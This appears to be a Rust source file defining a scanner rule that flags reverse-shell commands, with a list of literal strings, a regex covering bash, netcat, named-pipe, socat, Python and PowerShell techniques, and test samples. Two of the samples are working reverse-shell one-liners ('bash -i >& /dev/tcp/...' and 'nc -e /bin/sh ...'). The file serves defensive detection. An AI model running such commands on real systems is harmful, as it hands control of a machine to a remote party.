use crate::diagnostics::Severity;
use crate::rules::any;
use crate::rules::{Confidence, Family, Matcher, Rule};

pub(crate) const RULE: Rule = Rule {
    id: "SK202",
    name: "reverse-shell",
    family: Family::PermissionEscalation,
    severity: Severity::Error,
    confidence: Confidence::High,
    message: "opens a reverse shell",
    why: "The command gives control of the machine to the remote end.",
    fix: "remove the command",
    code_counts: true,
    matcher: Matcher::Raw {
        literals: &[
            "/dev/tcp/",
            "/dev/udp/",
            "nc -e",
            "ncat -e",
            "nc -c",
            "mkfifo",
            "socat",
            "pty.spawn",
            "fsockopen",
            "tcpclient",
        ],
        pattern: r"(?ix)
            # a shell on a socket of bash
            (?:bash|sh)\s+-i\s*[^\n]{0,20}/dev/(?:tcp|udp)/
            # netcat
          | \b(?:nc|ncat|netcat)\b[^\n]{0,40}\s-(?:e|c)\s+\S*sh\b
            # a named pipe
          | \bmkfifo\b[^\n]{0,120}\b(?:nc|ncat|telnet|openssl)\b
          | \bsocat\b[^\n]{0,80}exec:
            # Python
          | socket[^\n]{0,200}(?:pty\.spawn|subprocess\.call|dup2)
          | exec\s+\d+<>/dev/tcp/
            # PowerShell
          | net\.sockets\.tcpclient
        ",
        keep: any,
    },
    hits: &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 1.2.3.4 99"],
    misses: &["nc -l 8080", "use /dev/null"],
};
